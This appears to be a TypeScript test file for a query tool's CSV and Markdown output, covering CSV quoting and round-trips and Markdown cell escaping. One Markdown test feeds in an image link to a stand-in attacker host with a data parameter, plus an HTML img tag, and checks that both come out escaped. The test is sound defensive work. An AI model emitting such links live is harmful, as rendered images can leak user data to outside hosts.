// CSV and Markdown: kinds stay apart, cells stay cells, and markup in data stays data.
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import fc from 'fast-check'
import type { Format } from './formats.ts'
import { openMemory } from './open-database.ts'
import { runQuery } from './run-query.ts'

const engine = openMemory()
function text(format: Format, sql: string, ...bound: unknown[]): string {
  const statement = engine.prepare<unknown[], unknown[]>(sql).raw(true).safeIntegers(true)
  const page = { maxRows: 100, skip: 0, format, next: () => undefined }
  const answer = JSON.parse(runQuery(statement, bound, page, { deadlineMs: 1000, outputBytes: 65_536 }).text)
  assert.equal(answer.rows, undefined)
  return answer.text
}

suite('csv', () => {
  const cells: readonly (readonly [unknown, string])[] = [
    [null, ''],
    ['', '""'],
    ['plain text', 'plain text'],
    ['12', '"12"'],
    [12n, '12'],
    [9_223_372_036_854_775_807n, '9223372036854775807'],
    [-0.5, '-0.5'],
    [Number.POSITIVE_INFINITY, 'inf'],
    ['-inf', '"-inf"'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' edge', '" edge"'],
    [Buffer.from([0, 255]), 'base64:AP8='],
    ['base64:AP8=', '"base64:AP8="'],
  ]
  for (const [value, expected] of cells)
    test(`${String(value)} becomes ${JSON.stringify(expected)}`, () =>
      assert.equal(text('csv', 'SELECT ? AS a, 1 AS b', value), `a,b\n${expected},1`))
  test('quotes column names that need it', () => assert.equal(text('csv', 'SELECT 1 AS "a,""b"'), '"a,""b"\n1'))

  // A reader of RFC 4180, written apart from the writer.
  const parse = (csv: string) =>
    [...csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,\n]*))(,|\n|$)/g)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain,
    )
  test('any text comes back whole', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (value) => {
        assert.equal(
          parse(
            text('csv', 'SELECT ?, 1', value)
              .split(/(?<=^[^\n]*)\n/)
              .slice(1)
              .join('\n'),
          )[0],
          value,
        )
      }),
    )
  })
})

suite('markdown', () => {
  const row = (...bound: unknown[]) => text('markdown', 'SELECT ? AS a, ? AS b', ...bound).split('\n')
  test('is a table with a head', () => assert.deepEqual(row(1n, 'x'), ['| a | b |', '| --- | --- |', '| 1 | x |']))
  test('keeps NULL, the text NULL and empty text apart', () => {
    assert.equal(row(null, 'NULL')[2], '| NULL | "NULL" |')
    assert.equal(row('', 1n)[2], '|  | 1 |')
  })
  test('a cell stays one cell and shows no image, link or HTML', () => {
    assert.equal(row('a|b', 'c\r\nd')[2], '| a\\|b | c<br>d |')
    assert.equal(
      row('![x](https://evil.example/?d=1)', '<img src=x>')[2],
      '| \\!\\[x\\](https://evil.example/?d=1) | \\<img src=x\\> |',
    )
    assert.equal(row('\\|', '`code`')[2], '| \\\\\\| | \\`code\\` |')
  })
  test('no text adds a line or a column', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), (a, b) => {
        const lines = row(a, b)
        assert.equal(lines.length, 3)
        assert.equal((lines[2] ?? '').replace(/\\[\s\S]/g, '').split('|').length, 4)
      }),
    )
  })
})
